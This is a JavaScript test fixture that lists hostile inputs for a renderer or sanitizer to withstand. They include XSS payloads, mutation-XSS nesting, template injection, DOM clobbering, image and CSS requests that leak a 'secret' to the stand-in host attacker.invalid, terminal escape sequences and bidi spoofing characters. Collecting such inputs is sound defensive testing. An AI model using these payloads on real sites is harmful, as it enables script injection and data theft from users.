// SPDX-License-Identifier: Apache-2.0
// Text that tries to run, to load, to hide or to break out. A script that ran would set window.pwned or ask for
// http://attacker.invalid; both are watched.
const mark = 'window.pwned=1';

export const hostile = [
  `<img src=x onerror="${mark}">`,
  `<script>${mark}</script>`,
  `"><svg/onload=${mark}>`,
  `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  `<a href="javascript:${mark}">click</a>`,
  `[click](javascript:${mark})`,
  `![pixel](http://attacker.invalid/p.png?q=secret)`,
  `<link rel=stylesheet href=http://attacker.invalid/a.css>`,
  `<style>@import url(http://attacker.invalid/b.css);</style>`,
  `<div style="background:url(http://attacker.invalid/c.png)">x</div>`,
  `<form action=http://attacker.invalid><button formaction="javascript:${mark}">go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${mark}></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript>`,
  `<template><img src=x onerror=${mark}></template>`,
  `<object data="data:text/html,<script>${mark}</script>"></object>`,
  `<base href="http://attacker.invalid/"><meta http-equiv=refresh content="0;url=http://attacker.invalid/">`,
  `<details open ontoggle=${mark}><summary>x</summary></details>`,
  `<input autofocus onfocus=${mark}>`,
  `<video src=http://attacker.invalid/v.mp4 autoplay onerror=${mark}></video>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">data</a>`,
  `[ref]: javascript:${mark} "title"\n\n[ref]`,
  `<x onclick=${mark} tabindex=0 id=app>clobber</x><form name=body><input name=appendChild></form>`,
  '```html\n<script>' + mark + '</script>\n```',
  '`<img src=x onerror=' + mark + '>`',
  `{{constructor.constructor('${mark}')()}} \${${mark}} <%= ${mark} %>`,
  '\u001b]8;;http://attacker.invalid\u0007link\u001b]8;;\u0007\u001b[31mred\u001b[2J\u001b[H',
  'admin\u202e}\u2066 if isAdmin\u2069 \u2066begin',
  '\u0000\u0008\u007f\u0085\u2028\u2029\ufeff',
  'zero\u200bwidth\u200djoin\u2060er',
  '\ud800 lone surrogate \udfff',
  'a'.repeat(5000),
  '> '.repeat(400) + 'deep',
  '[['.repeat(2000),
  '|'.repeat(300) + '\n' + '|-'.repeat(300),
];

export const hostileText = hostile.join('\n\n');
